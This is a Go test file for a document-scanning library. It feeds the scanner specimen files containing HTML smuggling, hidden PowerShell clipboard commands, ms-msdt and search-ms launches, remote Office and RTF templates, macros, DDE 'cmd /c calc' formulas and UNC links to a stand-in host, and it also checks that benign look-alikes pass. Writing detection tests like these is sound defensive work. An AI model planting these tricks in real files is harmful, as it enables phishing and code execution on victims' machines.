package scan

import (
	"context"
	"strings"
	"testing"

	"sekisho"
	"sekisho/scan/html"
)

// spellings are ways to write the same trick; each has to be found by content, whatever the file is called.
func spellings() []specimenFile {
	const active, run, macro = sekisho.KindActive, sekisho.KindExecutable, sekisho.KindMacro
	page := func(body string) []byte { return []byte("<!DOCTYPE html><html><body>" + body + "</body></html>") }
	script := func(s string) []byte { return page("<script>" + s + "</script>") }
	svg := func(body string) []byte { return []byte(`<svg xmlns="http://www.w3.org/2000/svg">` + body + `</svg>`) }
	flat := func(part string) []byte {
		return []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">` + part + `</pkg:package>`)
	}
	return []specimenFile{
		{active, "html-smuggling", script(`var n="Bl"+"ob";var x=new window[n]([d]);window["URL"]["create"+"ObjectURL"](x)`)}, {active, "html-smuggling", script(`location.href="data:application/zip;base64,"+d`)},
		{active, "html-smuggling", script(`var d=k.split("").reverse().join("")`)}, {active, "html-smuggling", script("WebAssembly.instantiateStreaming(fetch(u))")}, {active, "html-smuggling", script(`\u0065val(x)`)},
		{active, "html-smuggling", page(`<img src=x onerror="a.href=URL.createObjectURL(b)">`)}, {active, "html-smuggling", page(`<a href="data:application/octet-stream;base64,UEs=" download="x.zip">Get</a>`)},
		{active, "html-smuggling", page(`<iframe srcdoc="&lt;script&gt;new Blob([x])&lt;/script&gt;"></iframe>`)}, {active, "html-smuggling", script("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]")},
		{active, "html-command", script(`navigator.clipboard.writeText("powershell -w hidden -c x")`)}, {active, "html-launch", script(`location.href="ms-msdt:/id x"`)},
		{active, "link-program", page(`<a href="search-ms:query=x&crumb=location:\\x.example@80\y">Open</a>`)}, {active, "link-program", page(`<a href="ms-appinstaller:?source=https://x.example/a">Open</a>`)},
		{active, "link-server", page(`<a href="file://x.example/share/x.lnk">Open</a>`)}, {active, "link-server", page(`<a href="\\x.example@80\DavWWWRoot\x.lnk">Open</a>`)},
		{active, "svg-script", []byte(`<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>x()</s:script></s:svg>`)}, {active, "svg-script", svg(`<animate attributeName="href" values="javascript:x()"/>`)},
		{active, "svg-script", svg(`<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"/>`)}, {active, "svg-script", []byte(`<!DOCTYPE svg [<!ENTITY a "&#60;script&#62;x()&#60;/script&#62;">]>` + string(svg("&a;")))},
		{active, "svg-password-form", svg(`<foreignObject><h:form xmlns:h="http://www.w3.org/1999/xhtml"><h:input type="password"/></h:form></foreignObject>`)},
		{active, "external-template", []byte(`{\rtf1{\*\template http\'3a//x.example/t}}`)}, {active, "external-template", []byte(`{\rtf1{\*\template \u104?\u116?\u116?\u112?://x.example/t}}`)},
		{active, "external-object", []byte(`{\rtf1{\field{\*\fldinst INCLUDETEXT "\\\\\\\\x.example\\\\a.doc"}}}`)},
		{active, "external-template", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="x"><w:docPr><w:attachedTemplate w:val="https://x.example/t.dot"/></w:docPr></w:wordDocument>`)},
		{active, "external-template", flat(`<pkg:part pkg:name="/word/_rels/settings.xml.rels" pkg:contentType="x"><pkg:xmlData><Relationships><Relationship Type="a/attachedTemplate" Target="https://x.example/t" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>`)},
		{macro, "vba", flat(`<pkg:part pkg:name="/word/x.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>AAAA</pkg:binaryData></pkg:part>`)},
		{run, "program", flat(`<pkg:part pkg:name="/word/embeddings/a.bin" pkg:contentType="x"><pkg:binaryData>` + base64Of([]byte(peFile())) + `</pkg:binaryData></pkg:part>`)},
		{macro, "vba", zipFiles("[Content_Types].xml", `<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`, "ppt/odd.dat", "x")},
		{active, "dde", ooxml("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/externalLinks/externalLink1.bin", "\xe8\x02\x0c\x01\x00\x03\x00\x00\x00c\x00m\x00d\x00")},
		{macro, "xlm", compoundFile("", "Workbook", record(0x809, 0, 6, 5, 0, 0, 0, 0, 0)+record(0x85, 0, 0, 0, 0, 2, 1, 1, 0, 'a'))},
		{macro, "vba", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts><office:script><ooo:module><ooo:source-code>Sub Main</ooo:source-code></ooo:module></office:script></office:scripts></office:document>`)},
		{macro, "vba-auto", zipFiles("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><script:event-listener script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:x.py$y?language=Python&amp;location=share"/></office:document-content>`)},
		{active, "dde", zipFiles("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></office:document-content>`)},
		{run, "script", []byte("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\nURL=file://x.example@80/a\r\n")}, {run, "script", wide("redirectclipboard:i:1\r\nfull address:s:x.example\r\n")},
		{run, "script", []byte(`<?xml version="1.0"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018"/>`)}, {run, "script", []byte("[.ShellClassInfo]\r\nIconResource=\\\\x.example\\a.ico\r\n")},
		{run, "script", []byte("[Theme]\r\nDisplayName=x\r\n[boot]\r\nSCRNSAVE.EXE=\\\\x.example\\a.scr\r\n")}, {run, "script", []byte(`<asx version="3.0"><entry><ref href="file://\\x.example\a.wma"/></entry></asx>`)},
		{active, "page-objects", []byte("\r\n\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
			base64Of([]byte("ActiveMime\x00\x00\x01\xf0\x04\x00\x00\x00\xff\xff\xff\xff\x00\x00\x07\xf0\x78\x9c\x4b\x04\x00\x00\x62\x00\x62")) + "\r\n--x--\r\n")},
	}
}

func TestSpellings(t *testing.T) {
	s := scanner(t)
	for i, x := range spellings() {
		r := s.File(context.Background(), "file.dat", x.data)
		found := false
		for _, f := range r.Findings {
			found = found || f.Kind == x.class && f.Name == x.name
		}
		if !found {
			t.Errorf("%d: no %s/%s in %.120q: %+v", i, x.class, x.name, x.data, r.Findings)
		}
	}
}

// What resembles a trick is none.
func TestNotSpellings(t *testing.T) {
	s := scanner(t)
	for _, text := range []string{
		"Meeting notes: the shell\r\n[Shell] is a company.\r\n", "Dear all,\r\n\r\n[theme] of the day: x\r\nscrnsave.exe=old\r\n", "key: value\r\nother: thing\r\n", "a=b\r\nc=d\r\n",
		`<html><body><a href="https://x.example/search-ms:y">x</a><a href="//cdn.x.example/a">y</a></body></html>`, `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com"><text>x</text></a></svg>`,
		`{\rtf1{\*\template C:\'5cNormal.dot}{\field{\*\fldinst HYPERLINK "https://x.example"}}}`, `{\rtf1{\*\template file:///C:/a.dot}}`,
	} {
		for _, f := range s.File(context.Background(), "file.dat", []byte(text)).Findings {
			if f.Score > 0 && f.Kind != sekisho.KindSpam {
				t.Errorf("%q: %+v", text, f)
			}
		}
	}
	for address, host := range map[string]string{"file:///C:/a": "", "file:///home/a": "", "//cdn.example/a": "", `\\srv\a`: "srv", "file://srv/a": "srv", "file:////srv/a": "srv", `file:\\srv@80\DavWWWRoot`: "srv", "https://x": "", "": "", `\`: ""} {
		if got := html.Server(address); got != host {
			t.Errorf("%q: %q, want %q", address, got, host)
		}
	}
	if strings.Contains(html.Server("file://localhost/a"), "localhost") {
		t.Error("localhost")
	}
}
